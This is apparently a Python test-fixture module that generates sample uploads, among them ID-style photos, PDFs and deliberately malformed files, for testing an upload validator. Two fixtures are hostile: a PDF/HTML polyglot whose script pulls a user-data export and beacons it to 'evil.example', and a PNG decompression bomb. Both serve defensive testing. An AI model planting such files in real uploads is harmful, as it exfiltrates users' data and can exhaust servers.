"""Real file bytes for upload tests: photos drawn with Pillow, PDFs from reportlab, crafted bad files."""

import io
import random
import struct
import zlib

from PIL import Image, ImageDraw


def photo_jpeg(*, size=(358, 441), background=(255, 255, 255), quality=95, seed=1) -> bytes:
    """A portrait ID photo: plain background, a 'person' (noisy ellipse and shoulders) in the middle.
    The noise keeps the JPEG well above 30 KB, as a real photo is."""
    width, height = size
    image = Image.new("RGB", size, background)
    noise = Image.effect_noise(size, 60).convert("RGB")
    rng = random.Random(seed)
    tint = Image.new("RGB", size, (180 + rng.randrange(40), 140, 120))
    person = Image.blend(noise, tint, 0.5)
    mask = Image.new("L", size, 0)
    draw = ImageDraw.Draw(mask)
    draw.ellipse((width * 0.28, height * 0.12, width * 0.72, height * 0.62), fill=255)
    draw.rectangle((width * 0.12, height * 0.66, width * 0.88, height), fill=255)
    draw.ellipse((width * 0.12, height * 0.58, width * 0.88, height * 0.82), fill=255)
    image.paste(person, (0, 0), mask)
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=quality)
    return out.getvalue()


def small_jpeg(kb_target=20) -> bytes:
    """A photo-sized JPEG of about 20 KB: right pixels, too few bytes."""
    for quality in range(60, 5, -5):
        data = photo_jpeg(quality=quality)
        if len(data) <= kb_target * 1024:
            return data
    raise AssertionError("could not make a small JPEG")


def png_bytes(size=(400, 500)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 50).convert("RGB").save(out, format="PNG")
    return out.getvalue()


def jpeg_with_exif_rotation() -> bytes:
    """A landscape-stored JPEG whose EXIF says 'rotate 90°' and carries a GPS-like comment."""
    image = Image.effect_noise((500, 380), 40).convert("RGB")
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    exif[0x010E] = "secret location 39.9N 116.4E"  # ImageDescription
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=95, exif=exif)
    return out.getvalue()


def truncated_jpeg() -> bytes:
    data = photo_jpeg()
    return data[: len(data) // 2]


def decompression_bomb_png(width=50_000, height=50_000) -> bytes:
    """A valid PNG header claiming 2.5 gigapixels, with a tiny compressed body."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\x00" * (width + 1) * 4, 9)  # a few rows; the rest would decompress from nothing
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def pdf_bytes(text="Diploma") -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=A4)
    pdf.drawString(100, 750, text)
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def pdf_with_html_payload() -> bytes:
    """Starts like a PDF, carries a web page: what a polyglot upload looks like."""
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n<html><body><script>fetch('/api/v1/me/export')"
        b".then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></body></html>\n"
        + pdf_bytes()[9:]
    )


def pdf_with_javascript() -> bytes:
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.add_open_action(JavaScript("app.alert('hi');"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def large_file(megabytes=8) -> bytes:
    return photo_jpeg()[:2] + b"\x00" * (megabytes * 1024 * 1024)
